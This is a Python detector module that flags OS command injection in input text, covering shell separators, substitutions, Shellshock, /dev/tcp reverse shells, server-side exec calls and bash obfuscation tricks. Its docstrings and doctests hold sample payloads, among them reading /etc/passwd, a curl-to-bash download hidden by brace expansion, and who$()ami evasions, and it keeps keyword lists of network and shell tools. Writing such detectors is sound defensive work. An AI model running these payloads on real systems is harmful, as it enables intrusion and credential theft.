"""OS command injection: a shell command after a separator, in a substitution, or Shellshock.

A command word alone is not enough (prose says "cat", "ping" and "echo"): it
must come after a shell separator or inside ``$(...)``/backticks, and its
arguments must look like a command line's (a path for ``cat``, a host for
``wget``, a number for ``sleep``...). Evasions are undone first
(:func:`~citywatch.detect.portal.normalise.shell_normalise`, and :func:`_unshell` for
ANSI-C quoting, empty substitutions and brace expansion).

>>> cmdi("127.0.0.1; cat /etc/passwd")
('cmdi.command', '; cat /etc/passwd')
>>> cmdi("Cats; cat litter everywhere") is None
True
>>> cmdi('println "cat /etc/hosts".execute().text')
('cmdi.code', '"cat /etc/hosts".execute().text')
"""

from __future__ import annotations

import re

from citywatch.detect.portal.catalog import MAX_TRIES, Found, word_set
from citywatch.detect.portal.normalise import shell_normalise

_CMD_START = re.compile(
    r"""(?P<sep>[;&|\n`]|\$\(|^)[ \t]{0,32}+(?:sudo\s++|nohup\s++|exec\s++)?
    (?:[/\\][\w./\\-]{0,40}?[/\\])?(?P<cmd>[a-z][\w.-]{0,15}?)(?:\.exe)?(?![\w./\\-])
    (?P<args>[^;&|\n`)]{0,100})""",
    re.VERBOSE,
)
_NO_ARGS = word_set(
    "id whoami uname pwd ifconfig ipconfig hostname ps env printenv systeminfo ls dir "
    "netstat lsb_release ver tasklist reboot halt poweroff"
)
_PATH_ARGS = word_set(
    "cat head tail more less type nl tac od xxd strings base64 rm cp mv chmod chown touch tee "
    "find grep awk sed tar source sh bash zsh ksh dash csh ls dir"
)
_HOST_ARGS = word_set(
    "wget curl fetch tftp ftp certutil bitsadmin nc ncat netcat telnet socat nslookup dig host "
    "ping traceroute ssh scp openssl"
)
_CODE_ARGS = word_set("python python2 python3 perl ruby php node lua powershell pwsh cmd bash sh")
_ANY_ARGS = word_set(
    "echo printf mkfifo crontab useradd chpasswd busybox eval timeout sleep rev xargs"
)
_COMMENT = re.compile(r"\s#.*+$")
_PATH_WITHIN = 3
"""Arguments read for a path: ``tar czf /tmp/x /etc`` names one early, a complaint's
"cat stuck on tree near /home/street" only after words."""
_DATABASES = word_set("passwd shadow group hosts ahosts gshadow")
"""What ``getent`` reads that an attacker wants (the accounts without reading a file)."""
_ANSI_C = re.compile(r"\$'((?:[^'\\]|\\.){0,200}+)'")
_ANSI_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{1,2})|u([0-9a-f]{1,4})|([0-7]{1,3})|(.))")
_EMPTY_SUBSTITUTION = re.compile(r"\$\(\s*+\)|``")
_BRACES = re.compile(r"(?<!\$)\{([^{}\s,]{0,60}+(?:,[^{}\s,]{0,60}+){1,8}+)\}")
_IFS_SET = re.compile(r"(?:^|[;&|\n`(])[ \t]{0,32}+ifs=")
"""Setting the field separator: the commas of ``IFS=,;`cat<<<uname,-a``` become spaces."""
_BARE = ("-", ">", "2>", "</", "<.", "<~")
"""How arguments that are options or redirections begin (``<3`` is a heart, not one)."""
_SPELT = re.compile(
    r"(?:^|[;&|\n`(])[ \t]{0,32}+(?:/[\w?*\[\]]{1,12}){1,4}(?<=[?*\]])[^;&|\n`)]{0,60}"
    r"|(?:[;&|\n`]|\$\()[ \t]{0,32}+(?:\$\{?[a-z_]\w{0,15}\}?){2,}(?![\w{])"
)
"""A command spelt so no word names it: wildcards in its path (``/???/c?t``) or variables
run together (``a=i;b=d;$a$b``)."""
_PATHISH = re.compile(r"(?:^|[\s<>])(?:[/~\\]|\.{1,2}/|-{1,2}[a-z]|[a-z]:(?:[\w/\\\s]|$))")
_HOSTISH = re.compile(
    r"(?:^|\s)(?:-{1,2}[a-z]|[\w-]{1,63}\.[\w.-]{2,}|\d{1,3}(?:\.\d{1,3}){3}|https?:)"
)
_CODEISH = re.compile(r"(?:^|\s)(?:[-/](?:c|e|r|enc|encodedcommand|nop|noni|command|w)\b|['\"])")
_NUMBERISH = re.compile(r"^\s*+-?\d")
_NOT_PROSE = re.compile(r"[^a-z\s,.!?]")
_CODE_EXEC = re.compile(
    r"\b(?:system|shell_exec|passthru|popen|proc_open|pcntl_exec|exec)\s*+\(\s*+['\"`$]"
)
_RUNTIME_EXEC = re.compile(
    r"""["'][^"'\n]{1,200}+["']\s*+\.\s*+execute\s*+\(\s*+\)"""  # Groovy: "id".execute()
    r"""|\bchild_process['"]?\s*+\)?\s*+\.\s*+(?:exec|execsync|execfile|spawn|spawnsync|fork)\b"""
    r"""|\brequire\s*+\(\s*+['"]child_process['"]"""
    r"|\binvokefunction\b|\bcall_user_func(?:_array)?\b"
)
"""Code that runs a command in the language of the server: Groovy's ``String.execute()``
(Jenkins' script console, OFBiz), Node's ``child_process``, PHP callbacks by name
(ThinkPHP's ``invokefunction``)."""
_SHELLSHOCK = re.compile(r"\(\s*+\)\s*+\{[^}]{0,100}+\}\s*+;")
_SUBSTITUTION = re.compile(
    r"(?:(?P<tick>`)|\$\()\s*+(?:[/\\][\w./\\-]{0,40}?[/\\])?(?P<cmd>[a-z][\w.-]{0,15}?)"
    r"(?![\w./\\-])(?P<args>[^`)]{0,80})(?(tick)`|\))"
)
"""``$(cmd args)`` or ```cmd args```, each closed by its own (```ps^)`` runs nothing)."""


def cmdi(text: str) -> Found | None:
    """Shell commands after a separator, in ``$(...)``/backticks, Shellshock, reverse shells."""
    if "() {" in text or "(){" in text or "( ) {" in text:
        match = _SHELLSHOCK.search(text)
        if match is not None:
            return "cmdi.shellshock", text[match.start() : match.start() + 80]
    if "/dev/tcp/" in text or "/dev/udp/" in text:
        i = max(text.find("/dev/tcp/"), text.find("/dev/udp/"))
        return "cmdi.reverse-shell", text[max(0, i - 30) : i + 40]
    if "(" in text or "call_user_func" in text or "invokefunction" in text:
        match = _CODE_EXEC.search(text) or _RUNTIME_EXEC.search(text)
        if match is not None:
            return "cmdi.code", text[match.start() : match.start() + 60]
    shell = shell_normalise(_unshell(text))
    ifs = _IFS_SET.search(shell)
    if ifs is not None:
        return "cmdi.command", shell[ifs.start() : ifs.start() + 60].strip()
    for count, sub in enumerate(_SUBSTITUTION.finditer(shell)):
        if _is_command(sub.group("cmd"), sub.group("args")):
            return "cmdi.substitution", sub.group()
        if count >= MAX_TRIES:
            break
    spelt = _SPELT.search(shell)
    if spelt is not None:
        return "cmdi.command", spelt.group().strip()
    for count, match in enumerate(_CMD_START.finditer(shell)):
        if _is_command(match.group("cmd"), match.group("args"), start=not match.group("sep")):
            return "cmdi.command", match.group().strip()
        if count >= MAX_TRIES:
            break
    return None


def _unshell(text: str) -> str:
    """Undo the evasions that hide a command's name in bash syntax: ANSI-C quoting
    (``$'\\x77\\x68\\x6f'``), empty substitutions splitting it (``who$()ami``,
    ``who``ami``) and brace expansion (``{curl,x.example/s.sh}``).

    >>> _unshell("1;{curl,x.example/s}|{bash,};who$()ami;$'\\x69\\x64'")
    '1;curl x.example/s|bash ;whoami;id'
    """
    if "$'" in text:
        text = _ANSI_C.sub(lambda m: _ANSI_ESCAPE.sub(_escaped, m.group(1)), text)
    if "$(" in text or "``" in text:
        text = _EMPTY_SUBSTITUTION.sub("", text)
    if "{" in text and "," in text:
        text = _BRACES.sub(lambda m: m.group(1).replace(",", " "), text)
    return text


def _escaped(match: re.Match[str]) -> str:
    hexa, uni, octal, other = match.groups()
    if other is not None:
        return other
    return chr(int(hexa, 16) if hexa else int(uni, 16) if uni else int(octal, 8)).lower()


def _is_command(cmd: str, args: str, *, start: bool = False) -> bool:
    """Whether ``cmd args`` reads as a real command line rather than prose.

    At the ``start`` of a value (no separator before it) only a command with
    telling arguments counts: a value ``id`` or ``ping 3 times`` is not one.
    """
    if args and not (args[0].isspace() or args[0] in "<>"):
        return False  # "host:", "cat,", "id." are words, not commands (cat</etc/passwd is)
    if "#" in args:  # "; whoami #": the rest of the line is a comment
        args = _COMMENT.sub("", args)
    bare = not args.strip() or args.lstrip().startswith(_BARE)  # id>out, id </dev/null
    if cmd in _NO_ARGS and bare and not start:
        return True
    if cmd in _PATH_ARGS and _PATHISH.search(
        " ".join(args.split(None, _PATH_WITHIN)[:_PATH_WITHIN])
    ):
        return True
    if cmd in _HOST_ARGS and _HOSTISH.search(args):
        return True
    if cmd in _CODE_ARGS and _CODEISH.search(args):
        return True
    if start:
        return False
    if cmd in ("sleep", "timeout", "ping") and _NUMBERISH.match(args):
        return True
    if cmd in _ANY_ARGS and cmd not in ("sleep", "timeout") and _NOT_PROSE.search(args):
        return True
    if cmd == "getent":
        first = args.split(None, 1)
        return bool(first) and first[0] in _DATABASES
    return cmd == "net" and args.lstrip().startswith(("user", "localgroup", "view", "share"))
